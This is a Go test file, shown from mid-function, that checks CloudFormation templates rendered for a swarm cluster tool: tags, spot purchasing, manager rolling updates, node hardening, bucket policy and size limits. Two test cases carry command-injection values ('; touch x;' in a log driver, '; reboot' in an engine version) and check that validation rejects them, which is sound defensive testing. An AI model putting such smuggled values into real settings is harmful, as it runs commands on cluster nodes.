					continue
				}
				if key == names.TagAutoscale || key == names.TagInstanceTypes {
					// For the autoscaler, on the group alone.
					if obj(tg)["PropagateAtLaunch"] != false {
						t.Errorf("ASG tag %v propagated", tg)
					}
					continue
				}
				if obj(tg)["PropagateAtLaunch"] != true {
					t.Errorf("ASG tag %v not propagated", tg)
				}
				asgTags = append(asgTags, tg)
			}
			if !maps.Equal(asgLabels, map[string]string(g.Labels)) && len(g.Labels)+len(asgLabels) > 0 {
				t.Errorf("ASG label tags %v, want %v", asgLabels, g.Labels)
			}
			wantTags(t, asgTags, map[string]string{
				"Name": name, names.TagCluster: v.cluster, names.TagRole: names.RoleAgents, names.TagGroup: g.Name, names.TagVersion: testVersion,
			})
			// Its nodes name the cluster bucket, for list-nodes.
			wantRefTag(t, asgTags, names.TagNodeBucket, names.OutputBucketName)

			labelTags := map[string]string{}
			for k, val := range g.Labels {
				labelTags[names.TagLabelPrefix+k] = val
			}
			var instTags []any
			for _, ts := range list(dig(res, "LaunchTemplate", "Properties", "LaunchTemplateData", "TagSpecifications")) {
				if obj(ts)["ResourceType"] == "instance" {
					instTags = list(obj(ts)["Tags"])
				}
			}
			wantTags(t, instTags, labelTags)

			ud := userDataOf(t, res, "LaunchTemplate")
			if !strings.Contains(ud, "--resource AutoScalingGroup ") {
				t.Error("agent user data does not signal AutoScalingGroup")
			}
			checkNodeSecurity(t, res)

			if r.StackName != name {
				t.Errorf("stack name %q", r.StackName)
			}
			wantLabels, wantImage, wantSubnets := names.NoLabels, names.ImageDefault, names.SubnetsCore
			if len(g.Labels) > 0 {
				wantLabels = g.Labels.String()
			}
			if g.ImageID != "" {
				wantImage = g.ImageID
			}
			if len(g.SubnetIDs) > 0 {
				wantSubnets = names.SubnetsOwn
			}
			want := map[string]string{
				names.TagCluster: v.cluster, names.TagRole: names.RoleAgents, names.TagGroup: g.Name, names.TagVersion: testVersion,
				names.TagLabels: wantLabels, names.TagImage: wantImage, names.TagSubnets: wantSubnets,
			}
			maps.Copy(want, g.Tags)
			if !maps.Equal(r.Tags, want) {
				t.Errorf("stack tags %v, want %v", r.Tags, want)
			}
			for k, val := range r.Tags {
				if val == "" {
					t.Errorf("stack tag %s is empty", k)
				}
			}
			wantSubnetParam := strings.Join(v.join.SubnetIds, ",")
			if len(g.SubnetIDs) > 0 {
				wantSubnetParam = strings.Join(g.SubnetIDs, ",")
			}
			if r.Parameters["SubnetIds"] != wantSubnetParam {
				t.Errorf("SubnetIds = %q, want %q", r.Parameters["SubnetIds"], wantSubnetParam)
			}
		})
	}
}

// checkPurchase asserts how a group's nodes are bought: a group of one
// type on demand names its launch template alone, as before groups could
// be mixed; several types or spot put a mixed instances policy over the
// launch template, one override per type, in the order given, and spot
// adds the on-demand share, the allocation strategy and capacity
// rebalancing.
func checkPurchase(t *testing.T, doc map[string]any, r *Rendered, g *spec.Group) {
	t.Helper()
	params := obj(doc["Parameters"])
	asg := obj(dig(doc, "Resources", "AutoScalingGroup", "Properties"))
	ltSpec := asg["LaunchTemplate"]
	mip := obj(asg["MixedInstancesPolicy"])
	if mip != nil {
		ltSpec = dig(mip, "LaunchTemplate", "LaunchTemplateSpecification")
	}
	if dig(ltSpec, "LaunchTemplateId", "Ref") != "LaunchTemplate" || !jsonEqual(dig(ltSpec, "Version", "Fn::GetAtt"), []any{"LaunchTemplate", "LatestVersionNumber"}) {
		t.Errorf("ASG launch template %v", ltSpec)
	}
	if r.Parameters["InstanceType"] != g.InstanceType.String() {
		t.Errorf("InstanceType = %q, want %q", r.Parameters["InstanceType"], g.InstanceType.String())
	}
	spotParams := []string{"OnDemandBaseCapacity", "OnDemandPercentageAboveBaseCapacity", "SpotAllocationStrategy"}
	ltType := dig(doc, "Resources", "LaunchTemplate", "Properties", "LaunchTemplateData", "InstanceType")
	if !g.Mixed() {
		if mip != nil || asg["CapacityRebalance"] != nil || dig(params, "InstanceType", "Type") != "String" || dig(ltType, "Ref") != "InstanceType" {
			t.Errorf("one type on demand: mixed policy %v, rebalance %v, parameter %v, launch template type %v", mip, asg["CapacityRebalance"], params["InstanceType"], ltType)
		}
		for _, p := range spotParams {
			if params[p] != nil {
				t.Errorf("one type on demand: parameter %s", p)
			}
		}
		return
	}
	if asg["LaunchTemplate"] != nil || dig(params, "InstanceType", "Type") != "CommaDelimitedList" || !jsonEqual(dig(ltType, "Fn::Select"), []any{0, map[string]any{"Ref": "InstanceType"}}) {
		t.Errorf("mixed group: launch template %v, parameter %v, launch template type %v", asg["LaunchTemplate"], params["InstanceType"], ltType)
	}
	overrides := list(dig(mip, "LaunchTemplate", "Overrides"))
	if len(overrides) != len(g.InstanceType) {
		t.Errorf("%d overrides for %d types", len(overrides), len(g.InstanceType))
	}
	for i, o := range overrides {
		if !jsonEqual(dig(o, "InstanceType", "Fn::Select"), []any{i, map[string]any{"Ref": "InstanceType"}}) {
			t.Errorf("override %d: %v", i, o)
		}
	}
	dist := obj(mip["InstancesDistribution"])
	if dist["OnDemandAllocationStrategy"] != "prioritized" {
		t.Errorf("on-demand allocation %v, want the types' order", dist["OnDemandAllocationStrategy"])
	}
	if !g.Spot {
		if !jsonEqual(dist, map[string]any{"OnDemandAllocationStrategy": "prioritized", "OnDemandBaseCapacity": 0, "OnDemandPercentageAboveBaseCapacity": 100}) || asg["CapacityRebalance"] != nil {
			t.Errorf("several types on demand: distribution %v, rebalance %v", dist, asg["CapacityRebalance"])
		}
		return
	}
	for _, p := range spotParams {
		if params[p] == nil || dig(dist, p, "Ref") != p || r.Parameters[p] == "" {
			t.Errorf("spot: %s declared %v, distribution %v, value %q", p, params[p], dist[p], r.Parameters[p])
		}
	}
	if r.Parameters["OnDemandBaseCapacity"] != fmt.Sprint(g.OnDemandBaseCapacity()) || r.Parameters["OnDemandPercentageAboveBaseCapacity"] != fmt.Sprint(g.OnDemandPercentage()) ||
		r.Parameters["SpotAllocationStrategy"] != g.SpotAllocationStrategy() {
		t.Errorf("spot parameters %v", r.Parameters)
	}
	if asg["CapacityRebalance"] != true {
		t.Error("spot without capacity rebalancing")
	}
}

// checkNodeSecurity asserts what holds for every node of every template:
// IMDSv2, encrypted volumes, no ingress from anywhere, SSH only from the
// SshCidr parameter and only under its condition.
// checkManagerGroup checks the managers' Auto Scaling group: as many as
// the Managers parameter says, one more at most while a rolling update
// replaces them one at a time, each waited for (it signals once it is a
// Reachable manager), none terminated before the lifecycle hook let the
// swarm demote and remove it.
func checkManagerGroup(t *testing.T, doc map[string]any, cluster string) {
	t.Helper()
	res := obj(doc["Resources"])
	asgs := resourcesOfType(res, "AWS::AutoScaling::AutoScalingGroup")
	if len(asgs) != 1 {
		t.Fatalf("%d Auto Scaling groups", len(asgs))
	}
	g := obj(res[names.ResourceManagerGroup])
	managers := map[string]any{"Ref": names.ParamManagers}
	for _, want := range []struct {
		path []string
		want any
	}{
		{[]string{"CreationPolicy", "ResourceSignal", "Count"}, managers},
		{[]string{"CreationPolicy", "ResourceSignal", "Timeout"}, "PT10M"},
		{[]string{"UpdatePolicy", "AutoScalingRollingUpdate", "MaxBatchSize"}, 1.0},
		{[]string{"UpdatePolicy", "AutoScalingRollingUpdate", "MinInstancesInService"}, managers},
		{[]string{"UpdatePolicy", "AutoScalingRollingUpdate", "WaitOnResourceSignals"}, true},
		{[]string{"Properties", "MinSize"}, managers},
		{[]string{"Properties", "DesiredCapacity"}, managers},
		{[]string{"Properties", "MaxSize"}, map[string]any{"Fn::FindInMap": []any{"ManagerGroupSize", managers, "Max"}}},
		{[]string{"Properties", "VPCZoneIdentifier"}, map[string]any{"Ref": names.ParamSubnetIDs}},
		{[]string{"Properties", "LaunchTemplate", "Version", "Fn::GetAtt"}, []any{names.ResourceControlLaunchTemplate, "LatestVersionNumber"}},
	} {
		if got := dig(g, want.path...); !jsonEqual(got, want.want) {
			t.Errorf("ManagerGroup %s = %v, want %v", strings.Join(want.path, "."), got, want.want)
		}
	}
	// MinInstancesInService must stay below MaxSize, or CloudFormation
	// cannot replace a manager while keeping the others.
	allowed := list(dig(doc, "Parameters", names.ParamManagers, "AllowedValues"))
	if !jsonEqual(allowed, []any{"1", "3", "5"}) {
		t.Errorf("Managers allows %v", allowed)
	}
	for _, n := range allowed {
		if max := dig(doc, "Mappings", "ManagerGroupSize", n.(string), "Max"); max != mustAtof(t, n.(string))+1 {
			t.Errorf("%s managers: max size %v, want one more", n, max)
		}
	}
	hooks := list(dig(g, "Properties", "LifecycleHookSpecificationList"))
	if len(hooks) != 1 || dig(hooks[0], "LifecycleTransition") != "autoscaling:EC2_INSTANCE_TERMINATING" ||
		dig(hooks[0], "LifecycleHookName") != names.LifecycleHook(cluster) || dig(hooks[0], "DefaultResult") != "CONTINUE" {
		t.Errorf("managers' termination hook %v", hooks)
	}
	tags := list(dig(g, "Properties", "Tags"))
	wantTags(t, tags, map[string]string{
		"Name": cluster + "-control", names.TagCluster: cluster, names.TagRole: names.RoleCore,
		names.TagGroup: names.GroupControl, names.TagVersion: testVersion,
	})
	wantRefTag(t, tags, names.TagNodeBucket, names.ResourceBucket)
	for _, tag := range tags {
		if dig(tag, "PropagateAtLaunch") != true {
			t.Errorf("tag %v not on the managers", tag)
		}
	}
}

func mustAtof(t *testing.T, s string) float64 {
	t.Helper()
	f, err := strconv.ParseFloat(s, 64)
	if err != nil {
		t.Fatal(err)
	}
	return f
}

func checkNodeSecurity(t *testing.T, res map[string]any) {
	t.Helper()
	lts := resourcesOfType(res, "AWS::EC2::LaunchTemplate")
	if len(lts) != 1 {
		t.Fatalf("%d launch templates", len(lts))
	}
	data := obj(dig(lts[0], "Properties", "LaunchTemplateData"))
	if dig(data, "MetadataOptions", "HttpTokens") != "required" {
		t.Error("IMDSv2 not required")
	}
	// One hop: a container on the node cannot reach the metadata service,
	// so it cannot take the node's role.
	if hop := dig(data, "MetadataOptions", "HttpPutResponseHopLimit"); hop != 1.0 {
		t.Errorf("IMDS hop limit %v, want 1", hop)
	}
	bdms := list(data["BlockDeviceMappings"])
	if len(bdms) == 0 {
		t.Error("no block device mappings")
	}
	for _, bdm := range bdms {
		if dig(bdm, "Ebs", "Encrypted") != true {
			t.Errorf("unencrypted volume %v", bdm)
		}
	}

	var rules []map[string]any
	conds := map[string]any{}
	for id, x := range res {
		r := obj(x)
		switch r["Type"] {
		case "AWS::EC2::SecurityGroupIngress":
			// The nodes admit their load balancer on the node ports,
			// from its security group alone (checkLoadBalancer).
			if dig(r, "Properties", "SourceSecurityGroupId", "Ref") == names.ResourceLoadBalancerSecurityGroup {
				continue
			}
			rules = append(rules, obj(r["Properties"]))
			conds[id] = r["Condition"]
		case "AWS::EC2::SecurityGroup":
			if id == names.ResourceLoadBalancerSecurityGroup {
				continue // open to its clients by design (checkLoadBalancer)
			}
			for _, in := range list(dig(r, "Properties", "SecurityGroupIngress")) {
				rules = append(rules, obj(in))
			}
			if dig(r, "Properties", "SecurityGroupIngress") != nil && r["Condition"] != "HasSshCidr" {
				t.Errorf("security group %s has unconditional inline ingress", id)
			}
		}
	}
	for _, rule := range rules {
		for _, k := range []string{"CidrIp", "CidrIpv6"} {
			c, ok := rule[k]
			if !ok {
				continue
			}
			if dig(c, "Ref") != "SshCidr" || rule["FromPort"] != 22.0 || rule["ToPort"] != 22.0 {
				t.Errorf("ingress from %s %v", k, c)
			}
		}
	}
	for id, c := range conds {
		if dig(res, id, "Properties", "CidrIp") != nil && c != "HasSshCidr" {
			t.Errorf("%s opens a CIDR without condition HasSshCidr", id)
		}
	}
}

// checkJoinMaterialPolicy asserts that the bucket policy denies reading
// the swarm's join material to every principal but the cluster's two
// roles: an explicit deny in the bucket policy overrides whatever broad
// read access (ReadOnlyAccess) an identity policy grants.
func checkJoinMaterialPolicy(t *testing.T, res map[string]any) {
	t.Helper()
	var found []map[string]any
	for _, p := range resourcesOfType(res, "AWS::S3::BucketPolicy") {
		for _, s := range list(dig(p, "Properties", "PolicyDocument", "Statement")) {
			if st := obj(s); dig(st, "Resource", "Fn::Sub") == "${Bucket.Arn}/"+names.SwarmPrefix+"/*" {
				found = append(found, st)
			}
		}
	}
	if len(found) != 1 {
		t.Fatalf("%d bucket policy statements on the join material, want 1", len(found))
	}
	st := found[0]
	if st["Effect"] != "Deny" || st["Principal"] != "*" || !jsonEqual(st["Action"], []any{"s3:GetObject", "s3:GetObjectVersion"}) {
		t.Errorf("join material statement %v: want a deny of reading to every principal", st)
	}
	except := dig(st, "Condition", "ArnNotEquals", "aws:PrincipalArn")
	if !jsonEqual(except, []any{
		map[string]any{"Fn::GetAtt": []any{"ControlRole", "Arn"}},
		map[string]any{"Fn::GetAtt": []any{"AgentRole", "Arn"}},
	}) || len(obj(st["Condition"])) != 1 {
		t.Errorf("join material readable by %v, want the control and agent roles only", st["Condition"])
	}
}

func userDataOf(t *testing.T, res map[string]any, lt string) string {
	t.Helper()
	s, ok := dig(res, lt, "Properties", "LaunchTemplateData", "UserData", "Fn::Base64", "Fn::Sub").(string)
	if !ok || !strings.HasPrefix(s, "#!/bin/bash\n") {
		t.Fatalf("%s user data is not a bash script in Fn::Base64/Fn::Sub", lt)
	}
	if strings.Contains(strings.ToLower(s), "placeholder") || !strings.Contains(s, "aws-cfn-bootstrap") || !strings.Contains(s, "sha256sum --check") {
		t.Errorf("%s user data is not the node bootstrap", lt)
	}
	return s
}

// Render checks only what rendering decides; the settings are checked by
// internal/spec before.
func TestErrors(t *testing.T) {
	core := variants()[0]
	group := variants()[3]
	otherCluster, newerContract := group, group
	otherCluster.join.ClusterName = "other"
	newerContract.join.ContractVersion = "3"
	for _, tc := range []struct {
		name string
		run  func() error
		want string
	}{
		{"core empty version", func() error { _, err := Core(core.cluster, *core.core, build("")); return err }, "rendering core template: clusterctl version is empty"},
		{"group empty version", func() error { _, err := Group(group.cluster, *group.group, group.join, build("")); return err }, "rendering group template: clusterctl version is empty"},
		{"group other cluster", func() error { _, err := otherCluster.render(); return err }, `belong to cluster "other"`},
		{"group newer contract", func() error { _, err := newerContract.render(); return err }, "join contract version 3"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			err := tc.run()
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("error = %v, want one containing %q", err, tc.want)
			}
			if strings.Contains(err.Error(), "\n") {
				t.Errorf("error spans lines: %q", err)
			}
		})
	}
}

func TestLimits(t *testing.T) {
	for _, tc := range []struct {
		name     string
		check    func(int) error
		limit    int
		wantText string
	}{
		{"template body", checkTemplateSize, MaxTemplateBytes, "template body is 51201 bytes, limit 51200"},
		{"user data", checkUserData, MaxLoaderBytes, "user data is 4097 bytes, limit 4096"},
		{"parameters", checkParameterCount, MaxParameters, "template declares 201 parameters, limit 200"},
	} {
		if err := tc.check(tc.limit); err != nil {
			t.Errorf("%s at the limit: %v", tc.name, err)
		}
		if err := tc.check(tc.limit + 1); err == nil || !strings.Contains(err.Error(), tc.wantText) {
			t.Errorf("%s over the limit: %v, want %q", tc.name, err, tc.wantText)
		}
	}
	// check applies the template limit to a rendered stack.
	r, err := variants()[0].render()
	if err != nil {
		t.Fatal(err)
	}
	r.Template = append(r.Template, bytes.Repeat([]byte(" "), MaxTemplateBytes)...)
	if err := check(r); err == nil || !strings.Contains(err.Error(), "template body") {
		t.Errorf("oversized template passed: %v", err)
	}
	r, _ = variants()[0].render()
	r.Parameters["Stray"] = "x"
	delete(r.Parameters, "VpcId")
	if err := check(r); err == nil || !strings.Contains(err.Error(), "undeclared [Stray], unset [VpcId]") {
		t.Errorf("parameter mismatch passed: %v", err)
	}
}

func TestLabelsLiteral(t *testing.T) {
	// Labels go to the node's settings, an artifact outside the template:
	// nothing substitutes in them.
	r, err := Group("prod", spec.Group{
		Name: "g", InstanceType: spec.InstanceTypes{"t3.small"}, Count: intp(1), Min: intp(1), Max: intp(2), VolumeSize: intp(8),
		Labels: spec.Labels{"k": "${AWS::AccountId}x"},
	}, Join{}, build("1"))
	if err != nil {
		t.Fatal(err)
	}
	if ud := string(r.Artifacts[0].Body); !strings.Contains(ud, "\nNODE_LABELS=k=${AWS::AccountId}x\n") {
		t.Errorf("label not literal in the node's settings:\n%s", ud)
	}
}

// JSON helpers over the generic decoding of a template.

func decode(t *testing.T, body []byte) map[string]any {
	t.Helper()
	var doc map[string]any
	if err := json.Unmarshal(body, &doc); err != nil {
		t.Fatalf("template is not JSON: %v", err)
	}
	return doc
}

func obj(v any) map[string]any { m, _ := v.(map[string]any); return m }
func list(v any) []any         { l, _ := v.([]any); return l }

func dig(v any, path ...string) any {
	for _, k := range path {
		v = obj(v)[k]
	}
	return v
}

func resourcesOfType(res map[string]any, typ string) []map[string]any {
	var out []map[string]any
	for _, id := range keys(res) {
		if r := obj(res[id]); r["Type"] == typ {
			out = append(out, r)
		}
	}
	return out
}

// wantRefTag checks that tags hold key, its value a Ref to ref.
func wantRefTag(t *testing.T, tags []any, key, ref string) {
	t.Helper()
	for _, tg := range tags {
		if k, _ := obj(tg)["Key"].(string); k == key {
			if got := dig(tg, "Value", "Ref"); got != ref {
				t.Errorf("tag %s = %v, want a Ref to %s", key, obj(tg)["Value"], ref)
			}
			return
		}
	}
	t.Errorf("no tag %s among %v", key, tags)
}

func wantTags(t *testing.T, tags []any, want map[string]string) {
	t.Helper()
	got := map[string]string{}
	for _, tg := range tags {
		k, _ := obj(tg)["Key"].(string)
		v, _ := obj(tg)["Value"].(string)
		got[k] = v
	}
	for k, v := range want {
		if got[k] != v {
			t.Errorf("tag %s = %q, want %q (tags %v)", k, got[k], v, got)
		}
	}
}

func keys[V any](m map[string]V) []string {
	ks := make([]string, 0, len(m))
	for k := range m {
		ks = append(ks, k)
	}
	slices.Sort(ks)
	return ks
}

func mergeMap(a, b map[string]string) map[string]string {
	for k, v := range b {
		a[k] = v
	}
	return a
}

func jsonEqual(a, b any) bool {
	x, err1 := json.Marshal(a)
	y, err2 := json.Marshal(b)
	return err1 == nil && err2 == nil && bytes.Equal(x, y)
}

// The log group and driver come from the core's outputs when it has both,
// and only the cluster's own log group is taken.
func TestJoinLogOutputs(t *testing.T) {
	base := testJoin.Outputs()
	for _, tc := range []struct {
		name          string
		group, driver string
		want          Join // LogGroupName and LogDriver
		err           string
	}{
		{"both", "/clusterctl/prod", "awslogs", Join{LogGroupName: "/clusterctl/prod", LogDriver: "awslogs"}, ""},
		{"driver none", "/clusterctl/prod", "none", Join{LogGroupName: "/clusterctl/prod", LogDriver: "none"}, ""},
		{"a core without logs", "", "", Join{}, ""},
		{"group alone", "/clusterctl/prod", "", Join{}, ""},
		{"another cluster's group", "/clusterctl/other", "awslogs", Join{}, "core output LogGroupName is \"/clusterctl/other\""},
		{"shell in the driver", "/clusterctl/prod", "awslogs'; touch x; '", Join{}, "core output LogDriver"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			out := maps.Clone(base)
			out[names.OutputLogGroupName], out[names.OutputLogDriver] = tc.group, tc.driver
			j, err := JoinFromOutputs(out)
			if tc.err != "" {
				if err == nil || !strings.Contains(err.Error(), tc.err) {
					t.Fatalf("error %v, want %q", err, tc.err)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if j.LogGroupName != tc.want.LogGroupName || j.LogDriver != tc.want.LogDriver {
				t.Errorf("log group %q, driver %q; want %q, %q", j.LogGroupName, j.LogDriver, tc.want.LogGroupName, tc.want.LogDriver)
			}
		})
	}
}

// A group of a core with a log group ships its containers' output there:
// the node's settings name the group and the driver (the agent writes
// daemon.json from them); a core without one names neither.
func TestNodeSettingsLogs(t *testing.T) {
	g := spec.Group{Name: "web", InstanceType: spec.InstanceTypes{"c5.large"}}
	with, err := Group("prod", g, testJoin, build(testVersion))
	if err != nil {
		t.Fatal(err)
	}
	ud := string(with.Artifacts[0].Body)
	for _, want := range []string{"\nLOG_GROUP=/clusterctl/prod\n", "\nLOG_DRIVER=awslogs\n"} {
		if !strings.Contains(ud, want) {
			t.Errorf("node settings lack %q", want)
		}
	}
	without := testJoin
	without.LogGroupName, without.LogDriver = "", ""
	old, err := Group("prod", g, without, build(testVersion))
	if err != nil {
		t.Fatal(err)
	}
	oud := string(old.Artifacts[0].Body)
	if strings.Contains(oud, "LOG_GROUP=") || strings.Contains(oud, "LOG_DRIVER=") {
		t.Error("a core without a log group: the node settings still name one")
	}
	// The nodes are replaced when the core gains its log group.
	if resolvedUserData(t, old, names.ResourceLaunchTemplate) == resolvedUserData(t, with, names.ResourceLaunchTemplate) {
		t.Error("the user data did not change with the log group")
	}
}

// A group's nodes install the core's engine version: the node settings
// name it, the template's metadata records it, and a new version replaces
// the nodes; a core of before the setting names none.
func TestNodeSettingsEngineVersion(t *testing.T) {
	g := spec.Group{Name: "web", InstanceType: spec.InstanceTypes{"c5.large"}}
	with, err := Group("prod", g, testJoin, build(testVersion))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(with.Artifacts[0].Body), "\nENGINE_VERSION=25.0.8\n") {
		t.Errorf("node settings lack the engine version:\n%s", with.Artifacts[0].Body)
	}
	if v := ReadEngineVersion(with.Template); v != "25.0.8" {
		t.Errorf("metadata engine version %q", v)
	}
	newer := testJoin
	newer.EngineVersion = "26.1.4"
	up, err := Group("prod", g, newer, build(testVersion))
	if err != nil {
		t.Fatal(err)
	}
	if resolvedUserData(t, up, names.ResourceLaunchTemplate) == resolvedUserData(t, with, names.ResourceLaunchTemplate) {
		t.Error("the user data did not change with the engine version")
	}
	older := testJoin
	older.EngineVersion = ""
	old, err := Group("prod", g, older, build(testVersion))
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(old.Artifacts[0].Body), "ENGINE_VERSION") || ReadEngineVersion(old.Template) != "" {
		t.Error("a core without the setting: the node settings still name a version")
	}
	out := testJoin.Outputs()
	out[names.OutputEngineVersion] = "25.0.8; reboot"
	if _, err := JoinFromOutputs(out); err == nil || !strings.Contains(err.Error(), "core output EngineVersion") {
		t.Errorf("an engine version of another shape: %v", err)
	}
}
